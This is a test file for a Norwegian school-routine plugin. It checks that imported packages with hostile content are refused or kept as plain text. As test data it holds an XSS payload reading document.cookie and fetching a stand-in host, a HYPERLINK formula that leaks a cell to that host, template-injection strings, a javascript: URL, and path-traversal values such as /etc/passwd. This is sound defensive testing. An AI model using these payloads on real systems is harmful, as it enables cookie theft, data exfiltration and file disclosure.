import type { DraftView, OutputOf } from '../../plugins/trapp/core/contracts/index';
import type { RoutinePackage } from '../../plugins/trapp/core/routines/index';
import { theApp, visitor } from '../kit/app';
import { coordinatorNamed, type Coordinator } from '../kit/coordinators';
import { packNamed } from '../routines/packs';

/** What somebody sends who wants to do harm, or has a file from somewhere: refused with the place and the words, or shown as the letters it is. */
const KEY = 'fiendtlig-innhold';
const SCRIPT = '<img src=x onerror="alert(document.cookie)"><script>fetch("//x.invalid")</script>';
const FORMULA = '=HYPERLINK("http://x.invalid/"&A1;"Klikk")';
const FIELD = '{pupil} ${process.env.HOME} {{constructor.constructor("return process")()}}';

let kari: Coordinator;
const routine = packNamed('kom-i-gang');
const shared = (more: object = {}, inRoutine: object = {}) => ({
  format: 'trapp-routine', schema: 1, madeBy: 'Prøve', madeOn: '2026-11-20', version: null, licence: 'CC-BY-4.0', notes: '', routine: { ...routine, key: KEY, ...inRoutine }, ...more,
});
const preview = (brought: unknown) => kari<OutputOf<'previewPackage'>>('post', `/trapp/routines/${KEY}/package/preview`, { package: brought, language: 'nb' });
const take = (brought: unknown, chosen: readonly string[]) => kari('post', `/trapp/routines/${KEY}/package`, { package: brought, chosen });
const view = async () => (await kari<DraftView>('get', `/trapp/routines/${KEY}/draft`)).body;
const saved = async (part: string, key: string, value: object) => {
  const stamp = (await view()).parts.find((row) => row.part === part && row.key === key)?.stamp;
  return kari('put', `/trapp/routines/${KEY}/draft/${part}/${key}`, { stamp, value });
};
const [firstRule, ...otherRules] = routine.rules;
const [firstGuide, ...otherGuides] = routine.guides;
const [firstMeasure, ...otherMeasures] = routine.measures;

beforeAll(async () => {
  kari = await coordinatorNamed('Kari', 'Fiendtlig');
  const whole = shared();
  const plan = await preview(whole);
  expect((await take(whole, plan.body.items.map(({ id }) => id))).status).toBe(200);
});

afterAll(async () => {
  await theApp().db.query('plugin::trapp.routine').deleteMany({ where: { key: KEY } });
  await theApp().db.connection('trapp_routine_versions').where('routine', KEY).delete();
});

describe('hostile content at the coordinator’s door', () => {
  it.each<[string, object, RegExp]>([
    ['a newer schema', shared({ schema: 3 }), /nyere Trapp/],
    ['an unknown key beside the routine', shared({ script: 'require("child_process")' }), /«script» er ukjent her/],
    ['an unknown key deep in the routine', shared({}, { rules: [{ ...firstRule, onFire: 'process.exit()' }, ...otherRules] }), /«onFire» er ukjent her/],
    ['a path to code', shared({}, { guides: [{ ...firstGuide, component: '../../server/index.js' }, ...otherGuides] }), /«component» er ukjent her/],
    ['a text of a megabyte', shared({}, { measures: [{ ...firstMeasure, title: { nb: 'å'.repeat(1_000_000) } }, ...otherMeasures] }), /for lang/],
    ['an address that is code', shared({}, { legalReferences: [{ id: '§ 1', title: { nb: 'Lov' }, url: 'javascript:alert(1)' }] }), /lenke|adresse|https/i],
  ])('S13, pain 3: %s is refused with words, and the draft is as it was', async (_what, brought, words) => {
    const before = await view();
    for (const told of [await preview(brought), await take(brought, ['rules', 'guides', 'measures', 'routine'])]) {
      expect(told.status).toBe(400);
      expect((told.body as { error?: { problems: { message: string }[] } }).error?.problems.map(({ message }) => message).join('\n')).toMatch(words);
    }
    expect(await view()).toEqual(before);
  });

  it.each(['../../../etc', '..%2f..%2fserver', 'sondre-land/../../server', '/etc/passwd', 'rule-corpus.json'])('S13: «%s» is no pack that a routine can be begun from', async (pack) => {
    expect((await kari('post', '/trapp/routines', { key: 'fra-sti', title: 'Fra en sti', from: { pack } })).status).toBeGreaterThanOrEqual(400);
    expect((await kari('post', `/trapp/routines/${KEY}/package/preview`, { pack, language: 'nb' })).status).toBeGreaterThanOrEqual(400);
    expect((await kari('get', '/trapp/routines/fra-sti/draft')).status).toBe(404);
  });

  it('S13: questions that wait for each other in a ring are told of, with their places, and are not published', async () => {
    const ring = (linkId: string, waitsFor: string) => ({ linkId, type: 'boolean', text: { nb: linkId }, enableWhen: [{ question: waitsFor, operator: '=', answer: true }] });
    const parts = firstGuide?.parts.map((part, at) => (at === 0 ? { ...part, item: [...part.item, ring('ring-a', 'ring-c'), ring('ring-b', 'ring-a'), ring('ring-c', 'ring-b')] } : part));
    const { key = '', ...value } = { ...firstGuide, parts };
    expect((await saved('guides', key, value)).status).toBe(200);
    const check = await kari<OutputOf<'checkRoutine'>>('get', `/trapp/routines/${KEY}/check`);
    expect(check.status).toBe(200);
    expect(check.body.errors.filter(({ path }) => path.includes('ring-')).map(({ path }) => path)).toEqual(['guides.0.ring-a.enableWhen.0']);
    expect((await kari('post', `/trapp/routines/${KEY}/versions`, { reason: 'Ring', startsOn: null })).status).toBeGreaterThanOrEqual(400);
    const { key: _same, ...whole } = firstGuide ?? { key };
    expect((await saved('guides', key, whole)).status).toBe(200);
  });

  it('S13: scripts, formulas and words of template languages are letters, from the draft to the version, the package and the paper', async () => {
    const hostile = `${SCRIPT} ${FORMULA} ${FIELD}`;
    const { key = '', ...measure } = { ...firstMeasure, title: { nb: hostile, nn: hostile, en: hostile } };
    expect((await saved('measures', key, measure)).status).toBe(200);
    expect((await kari('post', `/trapp/routines/${KEY}/versions`, { reason: hostile, startsOn: null })).status).toBe(200);
    const version = await kari<OutputOf<'viewVersion'>>('get', `/trapp/routines/${KEY}/versions/1`);
    expect((version.body.document as typeof routine).measures).toEqual(expect.arrayContaining([expect.objectContaining({ title: { nb: hostile, nn: hostile, en: hostile } })]));
    const pack = await kari<RoutinePackage>('post', `/trapp/routines/${KEY}/package/file`, { notes: hostile, licence: FORMULA });
    expect(pack.body.routine.measures[0]?.title.nb).toBe(hostile);
    expect([pack.body.notes, pack.body.licence]).toEqual([hostile, FORMULA]);
    // Nothing of it is ever sent as a page: a browser that is led there shows letters.
    const token = await visitor().get(`/trapp/routines/${KEY}/versions/1`);
    expect(token.headers['content-type']).toContain('application/json');
    expect(token.headers['x-content-type-options']).toBe('nosniff');
    const paper = { key: 'p', kind: 'information', title: { nb: 'Ark' }, heading: { nb: SCRIPT }, blocks: [{ key: 'a', block: 'paragraph', text: { nb: FORMULA } }, { key: 'b', block: 'field', field: 'measure-ideas' }] };
    const drawn = await kari('post', `/trapp/routines/${KEY}/paper-preview`, { paper, language: 'nb' });
    expect(drawn.status).toBe(200);
    // The entry is the pack's own, and other tests begin from that pack.
    const { key: _same, ...asItWas } = firstMeasure ?? { key };
    expect((await saved('measures', key, asItWas)).status).toBe(200);
  });
});
